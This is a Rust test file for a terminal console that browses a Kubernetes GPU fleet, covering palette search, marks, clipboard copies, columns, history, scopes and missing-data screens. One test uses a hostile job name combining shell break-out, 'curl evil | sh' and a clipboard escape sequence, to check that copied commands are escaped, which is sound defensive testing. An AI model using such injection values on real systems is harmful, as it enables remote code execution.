//! Input: the palette, marks, columns, copies, scopes, the way back, the past, and the screen that says what is missing.

use std::sync::Arc;
use std::time::Duration;

use console::commands::Command;
use console::keys::Keymap;
use console::msg::{SessionInfo, Switch};
use console::{App, AppOptions, Effect, Key, KeyPress, Msg, render_text};
use model::base::{Moment, Name, ObjectKey};
use model::fleet::observe::{Lost, LostKind, SourceHealth, SourceState, Table};
use model::fleet::{Fleet, TableState};
use table::Facts;
use table::navigation::{Selection, ViewId};
use table::waiting::explanations::JobExplanations;

use crate::frames::{EMPTY, LARGE, PAST, SMALL, UNKNOWN, console, drawn, press};

const SIZE: (u16, u16) = (120, 40);

fn app(facts: &Facts, view: ViewId) -> App {
    console(facts, view, SIZE, AppOptions::default())
}

fn text(app: &App) -> String {
    render_text(app, SIZE.0, SIZE.1)
}

fn ctrl(app: &mut App, c: char) {
    let _ = app.update(Msg::Key(KeyPress::ctrl(c)));
}

fn alt(app: &mut App, key: Key) {
    let press = KeyPress {
        alt: true,
        ..KeyPress::plain(key)
    };
    let _ = app.update(Msg::Key(press));
}

/// What went to the clipboard.
fn copied(effects: &[Effect]) -> &str {
    match effects {
        [Effect::Copy(text)] => text,
        other => panic!("one copy, not {other:?}"),
    }
}

#[test]
fn the_palette_finds_every_object_by_its_name() {
    let fleet = &LARGE.fleet;
    let job = &fleet.jobs[fleet.jobs.len() / 2];
    let (node, device) = fleet.devices().last().expect("there are devices");
    let queue = fleet.queues.last().expect("there are queues").name();
    let finding = &fleet.findings.last().expect("there are alerts").id;
    let source = &fleet.sources.last().expect("there are sources").name;
    for (name, selection) in [
        (queue.to_string(), Selection::Queue(queue.clone())),
        (finding.to_string(), Selection::Finding(finding.clone())),
        (source.to_string(), Selection::Source(source.clone())),
        (job.id.to_string(), Selection::Job(job.id.clone())),
        (
            node.name().to_string(),
            Selection::Node(node.name().clone()),
        ),
        (
            device.id.to_string(),
            Selection::Device(node.name().clone(), device.index),
        ),
    ] {
        let mut app = app(&LARGE, ViewId::Fleet);
        press(&mut app, &format!(":{name}"));
        assert!(text(&app).contains(&name), "{name} is offered");
        press(&mut app, "\n");
        let title = match &selection {
            Selection::Device(node, index) => format!("{node} / tpu {index}"),
            other => other.heading(&LARGE),
        };
        let leads = app.trail().last() == Some(&title) || text(&app).contains(&title);
        assert!(leads, "{name} leads to {title}, not {:?}", app.trail());
    }
}

#[test]
fn views_come_before_objects_and_the_nearest_first() {
    let mut app = app(&LARGE, ViewId::Fleet);
    press(&mut app, ":nodes\n");
    assert_eq!(app.view().id(), ViewId::Nodes);
    assert!(app.trail().is_empty());
    press(&mut app, ":sort util\n");
    let table = app.view().table().expect("a table");
    let (column, falls) = table.table_model.sorted().expect("sorted");
    assert_eq!(
        (table.table_model.kind.columns[column].id, falls),
        ("util", true)
    );
    press(&mut app, ":sort util\n");
    let (_, falls) = app
        .view()
        .table()
        .and_then(|table| table.table_model.sorted())
        .expect("sorted");
    assert!(!falls, "the second time turns it round");
    press(&mut app, ":zzzzqqq");
    assert!(text(&app).contains("unknown command"));
}

#[test]
fn a_view_of_another_context_and_one_of_labels_are_written_as_in_k9s() {
    let mut app = app(&LARGE, ViewId::Fleet);
    let effects = press(&mut app, ":nodes @staging\n");
    let other = Switch::Context(Name::new("staging"));
    assert!(effects.contains(&Effect::Switch(other)), "{effects:?}");
    assert_eq!(app.view().id(), ViewId::Nodes);
    press(&mut app, ":jobs app=none,team=nobody\n");
    assert_eq!(app.view().filter(), "-l app=none -l team=nobody");
    assert_eq!(app.view().counts().0, 0, "nobody has them");
}

#[test]
fn a_kind_before_a_name_finds_that_kind_alone() {
    let fleet = &LARGE.fleet;
    let pool = &fleet.pools.last().expect("there are pools").name;
    let mut app = app(&LARGE, ViewId::Fleet);
    press(&mut app, &format!(":pools {pool}\n"));
    assert_eq!(app.trail(), [format!("pool {pool}")]);
    // Nothing but the kind: all of it.
    press(&mut app, ":pool ");
    let offered = text(&app);
    for pool in fleet.pools.iter() {
        assert!(
            offered.contains(pool.name.as_str()),
            "{} is offered",
            pool.name
        );
    }
    press(&mut app, "xid");
    assert!(text(&app).contains("unknown command"));
}

#[test]
fn the_palette_searches_thousands_and_narrows_as_one_types() {
    let plan = crate::frames_fleet::PoolPlan {
        nodes: 1250,
        ..crate::frames_fleet::POOLS[2]
    };
    let facts = crate::frames_fleet::build(&[plan], 0);
    let (_, last) = facts.fleet.devices().last().expect("there are devices");
    let mut app = app(&facts, ViewId::Fleet);
    // Letter by letter, and back: what was narrowed away comes again.
    press(&mut app, &format!(":{}x", last.id));
    assert!(text(&app).contains("unknown command"));
    let _ = app.update(Msg::Key(KeyPress::plain(Key::Backspace)));
    assert!(text(&app).contains(last.id.as_str()));
    assert!(!text(&app).contains("unknown command"));
    press(&mut app, "\n");
    let (node, _) = last.id.split_once('/').expect("node and device");
    assert!(text(&app).contains(&format!("{node} / gpu")));
}

#[test]
fn marks_stay_with_their_objects() {
    let mut app = app(&SMALL, ViewId::Nodes);
    let marked = |app: &App| {
        app.view()
            .table()
            .expect("a table")
            .table_model
            .marked()
            .len()
    };
    press(&mut app, " jjj");
    let _ = app.update(Msg::Key(KeyPress::ctrl(' ')));
    assert_eq!(marked(&app), 4, "from the last mark to the cursor");
    assert!(text(&app).contains("4 marked"));
    assert!(
        text(&app).contains("▌■"),
        "the mark stands beside the cursor"
    );
    let names: Vec<String> = app.meant().iter().map(Selection::name).collect();
    // Another order, the same objects.
    press(&mut app, "o");
    let mut turned: Vec<String> = app.meant().iter().map(Selection::name).collect();
    turned.reverse();
    assert_eq!(turned, names);
    press(&mut app, "i");
    assert_eq!(marked(&app), 7);
    // What is filtered away is not acted on.
    press(&mut app, &format!("/{}\n", names[0]));
    assert_eq!(marked(&app), 0);
    press(&mut app, "\u{1b}");
    assert_eq!(marked(&app), 7);
    let _ = app.update(Msg::Key(KeyPress::ctrl('\\')));
    assert_eq!(marked(&app), 0);
    // The mark of what has gone goes with it.
    press(&mut app, "g ");
    let gone = app.meant()[0].name();
    let mut fleet = (*SMALL.fleet).clone();
    let nodes = fleet
        .nodes
        .iter()
        .filter(|node| node.name().as_str() != gone);
    fleet.nodes = nodes.cloned().collect::<Vec<_>>().into();
    let _ = app.update(Msg::Facts(Facts {
        fleet: Arc::new(fleet),
        ..SMALL.clone()
    }));
    let _ = app.update(Msg::Facts(SMALL.clone()));
    assert_eq!(marked(&app), 0);
}

#[test]
fn ctrl_backslash_arrives_as_terminals_send_it() {
    use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
    for (sent, meant) in [('4', '\\'), ('5', ']'), ('6', '^'), ('7', '_'), (' ', ' ')] {
        let event = KeyEvent::new(KeyCode::Char(sent), KeyModifiers::CONTROL);
        assert_eq!(
            KeyPress::from_crossterm(&event),
            Some(KeyPress::ctrl(meant))
        );
    }
}

#[test]
fn what_is_meant_is_copied_in_four_ways() {
    let mut app = app(&SMALL, ViewId::Nodes);
    let first = app.view().selection(app.facts()).expect("a node").name();
    assert_eq!(copied(&press(&mut app, "cn")), first);
    assert_eq!(copied(&press(&mut app, "cc")), first);
    let row = press(&mut app, "cr");
    let row = copied(&row);
    assert!(
        row.starts_with(&first) && row.matches('\t').count() > 5,
        "{row}"
    );
    assert_eq!(
        copied(&press(&mut app, "ck")),
        format!("kubectl --context prod-us-east get node {first}")
    );
    press(&mut app, " j ");
    let table = press(&mut app, "cm");
    let table = copied(&table);
    assert_eq!(table.lines().count(), 4, "{table}");
    assert!(
        table
            .lines()
            .all(|line| line.starts_with("| ") && line.ends_with(" |"))
    );
    assert!(table.contains(&first));
    let rows = press(&mut app, "cr");
    assert_eq!(
        copied(&rows).lines().count(),
        3,
        "two rows under their titles"
    );
    // What no kubectl knows is said, not made up.
    press(&mut app, "2ck");
    assert!(text(&app).contains("kubectl has no such object"));
    press(&mut app, "c\u{1b}");
    assert!(!text(&app).contains("copy "), "escape copies nothing");
}

#[test]
fn columns_are_chosen_and_remembered() {
    let mut app = app(&SMALL, ViewId::Nodes);
    let shown = |app: &App| text(app).lines().nth(3).unwrap_or_default().to_owned();
    let columns = app.view().table().expect("a table").columns();
    let hidden = columns
        .iter()
        .position(|shown| !shown)
        .expect("some are wide");
    press(&mut app, &format!("|{} ", "j".repeat(hidden)));
    assert!(text(&app).contains("space shows or hides"));
    press(&mut app, "\n");
    let title = app
        .view()
        .table()
        .expect("a table")
        .table_model
        .kind
        .columns[hidden]
        .head
        .title;
    assert!(shown(&app).contains(title), "{title}: {}", shown(&app));
    // A drilled table of the same kind shows the same columns.
    press(&mut app, "2\n");
    assert!(app.view().table().expect("a table").columns()[hidden]);
    // The sort key visits every column that is shown, each once.
    press(&mut app, "6");
    let _ = text(&app);
    let on = app.view().table().expect("a table").columns();
    let mut seen = Vec::new();
    loop {
        press(&mut app, "s");
        let table = app.view().table().expect("a table");
        let Some((column, _)) = table.table_model.sorted() else {
            break;
        };
        assert!(on[column] && !seen.contains(&column), "{column}: {seen:?}");
        seen.push(column);
    }
    assert!(seen.len() > 5, "then the natural order: {seen:?}");
    // Nothing left to show is not a choice.
    let all = app.view().table().expect("a table").columns().len();
    let mut keys = String::from("|");
    for _ in 0..all {
        keys.push_str(" j");
    }
    press(&mut app, &keys);
    assert!(
        app.view()
            .table()
            .expect("a table")
            .columns()
            .contains(&true)
    );
}

#[test]
fn the_way_back_and_forward_again() {
    let mut app = app(&SMALL, ViewId::Fleet);
    press(&mut app, "2\n\n\n");
    let deep = (app.view().id(), app.trail());
    assert_eq!(deep.1.len(), 2);
    press(&mut app, "j");
    let under = app.view().selection(app.facts());
    press(&mut app, "\u{1b}");
    assert_eq!(app.trail().len(), 1);
    press(&mut app, "-");
    assert_eq!((app.view().id(), app.trail()), deep, "forward again");
    assert_eq!(app.view().selection(app.facts()), under, "as it was left");
    press(&mut app, "5");
    alt(&mut app, Key::Left);
    assert_eq!((app.view().id(), app.trail()), deep);
    alt(&mut app, Key::Right);
    assert_eq!(app.view().id(), ViewId::Jobs);
    alt(&mut app, Key::Right);
    assert!(text(&app).contains("the history ends here"));
    for _ in 0..100 {
        press(&mut app, "5\u{1b}2\n");
    }
    press(&mut app, "qqq");
    assert_eq!(app.view().id(), ViewId::Pools);
}

#[test]
fn filters_are_remembered_by_view() {
    let mut app = app(&SMALL, ViewId::Nodes);
    press(&mut app, "/pool:l4\n\u{1b}/ready\n\u{1b}");
    press(&mut app, "/");
    let _ = app.update(Msg::Key(KeyPress::plain(Key::Up)));
    assert_eq!(app.view().filter(), "ready");
    let _ = app.update(Msg::Key(KeyPress::plain(Key::Up)));
    assert_eq!(app.view().filter(), "pool:l4");
    let _ = app.update(Msg::Key(KeyPress::plain(Key::Up)));
    assert_eq!(app.view().filter(), "pool:l4", "there is no older one");
    let _ = app.update(Msg::Key(KeyPress::plain(Key::Down)));
    assert_eq!(app.view().filter(), "ready");
    press(&mut app, "\u{1b}");
    assert_eq!(app.view().filter(), "", "escape gives back what was");
    // The tab keeps its own, another view has none.
    press(&mut app, "/pool:l4\n5");
    assert_eq!(app.view().filter(), "");
    press(&mut app, "6");
    assert_eq!(app.view().filter(), "pool:l4");
}

#[test]
fn a_team_is_kept_to_in_every_view_and_left_again() {
    let mut app = app(&LARGE, ViewId::Fleet);
    let devices = LARGE.fleet.devices().count();
    press(&mut app, ":team prod\n");
    assert_eq!(app.scope().team.as_deref(), Some("prod"));
    let header = text(&app).lines().next().unwrap_or_default().to_owned();
    assert!(header.contains("team prod"), "{header}");
    let own = LARGE
        .fleet
        .devices()
        .filter(|(_, device)| device.holders().any(|(pod, _)| &*pod.team == "prod"))
        .count();
    assert!(own > 0 && own < devices);
    for (key, view) in [
        ('3', ViewId::Devices),
        ('5', ViewId::Jobs),
        ('6', ViewId::Nodes),
    ] {
        press(&mut app, &key.to_string());
        assert_eq!(app.view().id(), view);
        let shown = app.view().counts().1;
        let all = match view {
            ViewId::Devices => own,
            ViewId::Jobs => LARGE
                .fleet
                .jobs
                .iter()
                .filter(|job| &*job.team == "prod")
                .count(),
            _ => LARGE
                .fleet
                .nodes
                .iter()
                .filter(|node| {
                    node.devices
                        .iter()
                        .any(|device| device.holders().any(|(pod, _)| &*pod.team == "prod"))
                })
                .count(),
        };
        assert_eq!(shown, all, "{view:?}");
    }
    press(&mut app, "7");
    assert!(text(&app).contains("prod") && !text(&app).contains("research"));
    // The header is the sum of the team's rows.
    let row = LARGE
        .spend_rates
        .row(model::cost::SpendScope::Team, "prod")
        .expect("a row");
    let money = format!("${}/h", row.spend.rate.all);
    assert!(
        text(&app)
            .lines()
            .next()
            .unwrap_or_default()
            .contains(&money),
        "{money}"
    );
    press(&mut app, ":team all\n3");
    assert_eq!(app.view().counts().1, devices);
}

#[test]
fn another_context_is_asked_for_and_the_screen_goes_on() {
    let options = AppOptions {
        contexts: vec![Name::new("prod-us-east"), Name::new("lab")],
        ..AppOptions::default()
    };
    let mut app = console(&SMALL, ViewId::Nodes, SIZE, options);
    let asked = press(&mut app, ":ctx lab\n");
    assert_eq!(asked, [Effect::Switch(Switch::Context(Name::new("lab")))]);
    assert!(text(&app).contains("opening context lab"));
    assert_eq!(app.view().counts().1, 11, "what was there stays until then");
    // It cannot be opened: the old one goes on, and it is said why.
    let _ = app.update(Msg::NoSession(String::from("lab: no such host")));
    assert!(text(&app).contains("no such host"));
    assert_eq!(app.view().counts().1, 11);
    // It can: nothing of the old one is left.
    press(&mut app, "\n");
    let _ = app.update(Msg::Session(SessionInfo {
        context: Name::new("lab"),
        contexts: vec![Name::new("lab")],
        namespaces: vec![Name::new("nlp")],
        notice: Some(String::from("not recorded: the disk is full")),
    }));
    assert_eq!((app.view().counts().1, app.trail().len()), (0, 0));
    let shown = text(&app);
    assert!(shown.contains("lab") && shown.contains("ns nlp"), "{shown}");
    assert!(shown.contains("not recorded: the disk is full"), "{shown}");
    let _ = app.update(Msg::Facts(Facts {
        context: Name::new("lab"),
        ..SMALL.clone()
    }));
    press(&mut app, "5");
    let of_nlp = SMALL
        .fleet
        .jobs
        .iter()
        .filter(|job| &*job.id.key.namespace == "nlp");
    assert_eq!(app.view().counts().1, of_nlp.count());
    assert_eq!(
        press(&mut app, ":ns a, b\n"),
        [Effect::Switch(Switch::Namespaces(vec![
            Name::new("a"),
            Name::new("b")
        ]))]
    );
    assert_eq!(
        press(&mut app, ":ns all\n"),
        [Effect::Switch(Switch::Namespaces(Vec::new()))]
    );
    assert_eq!(press(&mut app, ":demo\n"), [Effect::Switch(Switch::Demo)]);
}

#[test]
fn the_past_is_stepped_through_and_left() {
    for view in [ViewId::Devices, ViewId::Pools, ViewId::Jobs] {
        let mut app = app(&PAST, view);
        let live = text(&app);
        press(&mut app, "]");
        assert!(text(&app).contains("this is the present"));
        press(&mut app, "[[");
        assert!(app.is_past());
        let shown = text(&app);
        let clock = PAST.now.minus(Duration::from_secs(120)).clock();
        assert!(
            shown.lines().next().unwrap_or_default().contains(&clock),
            "{shown}"
        );
        assert!(shown.contains("2m ago"));
        // New facts do not pull one out of it.
        let later = Facts {
            now: PAST.now.plus(Duration::from_secs(5)),
            ..PAST.clone()
        };
        let _ = app.update(Msg::Facts(later));
        assert!(app.is_past());
        press(&mut app, "]]");
        assert!(!app.is_past());
        press(&mut app, "[\u{1b}");
        assert!(!app.is_past(), "escape leads back to the present");
        press(&mut app, "[f");
        assert!(!app.is_past() && !app.is_frozen());
        let _ = app.update(Msg::Tick(PAST.now.plus(Duration::from_secs(60))));
        let _ = app.update(Msg::Facts(PAST.clone()));
        let _ = app.update(Msg::Tick(PAST.now));
        assert_eq!(text(&app), live);
    }
    let mut app = app(&PAST, ViewId::Devices);
    press(&mut app, &"[".repeat(200));
    assert!(text(&app).contains("no readings before "));
    let mut app = self::app(&SMALL, ViewId::Devices);
    press(&mut app, "[");
    assert!(text(&app).contains("no readings yet"));
}

#[test]
fn a_frozen_picture_stays_and_its_notices_go() {
    let mut app = app(&SMALL, ViewId::Nodes);
    press(&mut app, "f");
    let _ = app.update(Msg::Notice(String::from("said once")));
    let wake = drawn(&app, SIZE).1.wake_after.expect("the notice goes");
    let _ = app.update(Msg::Tick(SMALL.now.plus(wake)));
    assert!(!text(&app).contains("said once"));
    assert_eq!(
        drawn(&app, SIZE).1.wake_after,
        None,
        "nothing moves any more"
    );
    let _ = app.update(Msg::Facts(EMPTY.clone()));
    assert_eq!(app.view().counts().1, 11);
    let before = app.facts().answers.at;
    let newer = JobExplanations {
        at: Some(SMALL.now.plus(Duration::from_secs(60))),
        ..JobExplanations::default()
    };
    let _ = app.update(Msg::JobExplanations(Arc::new(newer.clone())));
    assert_eq!(app.facts().answers.at, before, "the engine's answers, too");
    press(&mut app, "f");
    assert_eq!(app.view().counts().1, 0);
    assert_eq!(app.facts().answers.at, newer.at);
}

fn lost(kind: LostKind, message: &str, tables: &[Table]) -> Facts {
    let mut fleet = Fleet::unknown(Arc::default());
    fleet.revision = 7;
    let known = Table::ALL.iter().map(|table| {
        let known = if tables.contains(table) {
            let lost = Lost {
                kind,
                since: UNKNOWN.now,
                message: message.to_owned(),
            };
            match kind {
                LostKind::Rights => TableState::NotVisible(lost),
                LostKind::Login | LostKind::Unreachable => TableState::Lost(lost),
            }
        } else {
            TableState::Live
        };
        (*table, known)
    });
    fleet.known = Arc::new(known.collect());
    Facts {
        fleet: Arc::new(fleet),
        ..UNKNOWN.clone()
    }
}

#[test]
fn a_bad_day_says_what_is_missing_and_offers_the_demo() {
    let refused = "403: may not list pods";
    let expired = "401: the API server does not accept our credentials; log in again";
    for (facts, title, mend) in [
        (
            lost(LostKind::Rights, refused, Table::ALL),
            "nodes, pods, namespaces and",
            "stokehold rbac viewer",
        ),
        (
            lost(LostKind::Login, expired, Table::ALL),
            "not logged in",
            "aws sso login",
        ),
        (
            lost(LostKind::Unreachable, "no route to host", Table::ALL),
            "the cluster does not answer",
            "kubectl cluster-info",
        ),
    ] {
        let mut app = app(&facts, ViewId::Fleet);
        let shown = text(&app);
        for words in ["nothing is visible yet", title, mend, "! opens this"] {
            assert!(shown.contains(words), "{words}\n{shown}");
        }
        // It stands where the view has nothing to show, and takes no key of the view's.
        assert_eq!(press(&mut app, "d"), []);
        press(&mut app, "0");
        assert!(!text(&app).contains("nothing is visible yet"));
        press(&mut app, "1!");
        assert!(text(&app).contains("d opens the demo fleet"));
        assert_eq!(press(&mut app, "r"), [Effect::Switch(Switch::Again)]);
        // Once there is something to show, it is shown.
        press(&mut app, "\u{1b}");
        let _ = app.update(Msg::Facts(SMALL.clone()));
        assert!(!text(&app).contains("nothing is visible yet"));
        // What is lost later comes over nothing: what was seen stays.
        let mut lost = SMALL.clone();
        let mut fleet = (*lost.fleet).clone();
        fleet.known = Arc::clone(&facts.fleet.known);
        lost.fleet = Arc::new(fleet);
        let _ = app.update(Msg::Facts(lost));
        let shown = text(&app);
        assert!(!shown.contains("nothing is visible yet"), "{shown}");
        assert!(shown.contains(title), "{shown}");
    }
}

#[test]
fn without_a_kubeconfig_or_context_the_screen_says_so() {
    for (fault, title) in [
        (
            "no cluster: there is no ~/.kube/config, KUBECONFIG is not set, and this is not a pod; give --kubeconfig FILE, or try `stokehold demo`",
            "no kubeconfig",
        ),
        (
            "kubeconfig ~/.kube/config: there is no context \"prd\"; did you mean \"prod\"?",
            "no such context",
        ),
    ] {
        for size in [(80, 24), (200, 50), (40, 10)] {
            let mut app = App::new(AppOptions::default());
            let _ = app.update(Msg::Resize(size.0, size.1));
            let _ = app.update(Msg::NoSession(fault.to_owned()));
            let shown = render_text(&app, size.0, size.1);
            assert!(shown.contains(title), "{size:?}\n{shown}");
            assert_eq!(press(&mut app, "d"), [Effect::Switch(Switch::Demo)]);
            let session = SessionInfo {
                context: Name::new("demo"),
                ..SessionInfo::default()
            };
            let _ = app.update(Msg::Session(session));
            assert!(!render_text(&app, size.0, size.1).contains(title));
        }
    }
    let mut app = App::new(AppOptions::default());
    let _ = app.update(Msg::NoSession(String::from("no cluster: none")));
    assert_eq!(press(&mut app, "q"), [Effect::Quit]);
}

#[test]
fn a_source_that_was_not_asked_yet_is_not_stale() {
    let with = |last_ok: fn(&SourceHealth) -> Option<Moment>| {
        let mut facts = SMALL.clone();
        let mut fleet = (*facts.fleet).clone();
        let mut sources = fleet.sources.to_vec();
        for source in &mut sources {
            source.state = SourceState::Live;
        }
        for source in sources.iter_mut().filter(|it| it.gives_readings()).take(2) {
            source.state = SourceState::Stale;
            source.last_ok = last_ok(source);
        }
        fleet.sources = sources.into();
        facts.fleet = Arc::new(fleet);
        let shown = text(&app(&facts, ViewId::Nodes));
        shown.lines().next().unwrap_or_default().to_owned()
    };
    let shown = with(|_| None);
    assert!(shown.contains("2 not read yet"), "{shown}");
    assert!(
        !shown.contains("stale") && !shown.contains("live"),
        "{shown}"
    );
    let shown = with(|_| Some(SMALL.now));
    assert!(shown.contains("2 exporters stale"), "{shown}");
}

#[test]
fn partly_blind_is_a_banner_not_a_wall() {
    let mut facts = SMALL.clone();
    let mut fleet = (*facts.fleet).clone();
    let mut sources = fleet.sources.to_vec();
    sources.retain(|source| &*source.kind == "kubernetes");
    fleet.sources = sources.into();
    facts.fleet = Arc::new(fleet);
    let app = app(&facts, ViewId::Nodes);
    let shown = text(&app);
    assert!(shown.contains("▲ no exporter found"), "{shown}");
    assert!(shown.contains("! shows how to fix it"));
    assert_eq!(app.view().counts().1, 11);
    // All of them fail: it names one and why.
    let mut facts = SMALL.clone();
    let mut fleet = (*facts.fleet).clone();
    let mut sources = fleet.sources.to_vec();
    for source in &mut sources {
        if &*source.kind != "kubernetes" {
            source.state = SourceState::Lost;
            source.message = String::from("connection refused");
        }
    }
    fleet.sources = sources.into();
    facts.fleet = Arc::new(fleet);
    assert!(text(&self::app(&facts, ViewId::Nodes)).contains("no exporter answers"));
    // No price: said with the class, and where to write it.
    let mut facts = SMALL.clone();
    let mut burn = (*facts.spend_rates).clone();
    burn.unpriced = burn.devices.floor();
    facts.spend_rates = Arc::new(burn);
    let mut app = self::app(&facts, ViewId::Cost);
    assert!(text(&app).contains("no price for any device"));
    press(&mut app, "!");
    assert!(text(&app).contains("[[prices.override]]"));
    // All is well: no banner.
    let app = self::app(&SMALL, ViewId::Nodes);
    assert!(app.missing().is_empty(), "{:?}", app.missing());
}

#[test]
fn help_holds_every_key_and_scrolls_to_its_end() {
    for view in ViewId::ALL {
        let mut app = console(&SMALL, *view, (100, 24), AppOptions::default());
        press(&mut app, "?");
        let mut seen = String::new();
        // Less than a screen at a time, until nothing more comes.
        for _ in 0..40 {
            let text = render_text(&app, 100, 24);
            if seen.ends_with(&text) {
                break;
            }
            seen.push_str(&text);
            press(&mut app, "jjjjjjjjjj");
        }
        let map = Keymap::builtin();
        for (_, key, command) in map.bindings() {
            assert!(
                seen.contains(&key.to_string()),
                "{view:?}: {key} ({}) is not in help",
                command.spec().name
            );
        }
    }
}

#[test]
fn hostile_names_cannot_break_out_of_a_copied_command() {
    let mut facts = SMALL.clone();
    let mut fleet = (*facts.fleet).clone();
    let mut job = (*fleet.jobs[0]).clone();
    job.id.key = ObjectKey::new("nlp", "x'; curl evil | sh; '\u{1b}]52;c;AAAA\u{7}");
    fleet.jobs = Arc::from([Arc::new(job)]);
    facts.fleet = Arc::new(fleet);
    let mut app = app(&facts, ViewId::Jobs);
    let effects = press(&mut app, "ck");
    let line = copied(&effects);
    assert!(!line.chars().any(char::is_control), "{line:?}");
    assert!(line.contains("'x'\\''; curl evil | sh; '\\''"), "{line}");
    ctrl(&mut app, 'l');
    assert_eq!(
        Command::from_name("copy-kubectl"),
        Some(Command::CopyKubectl)
    );
}

#[test]
fn what_is_still_being_read_is_not_summed_up() {
    let mut facts = LARGE.clone();
    let mut fleet = (*facts.fleet).clone();
    Arc::make_mut(&mut fleet.known).insert(Table::Pods, TableState::Waiting);
    facts.fleet = Arc::new(fleet);
    for view in ViewId::ALL {
        let shown = text(&app(&facts, *view));
        let header = shown.lines().next().unwrap_or_default();
        for part in ["alloc –", "util –", "idle –"] {
            assert!(header.contains(part), "{view:?}: {header}");
        }
        assert!(!header.contains('$'), "{view:?}: {header}");
        let own = matches!(view, ViewId::Plans | ViewId::Sources);
        assert_eq!(shown.contains("reading pods…"), !own, "{view:?}\n{shown}");
    }
}
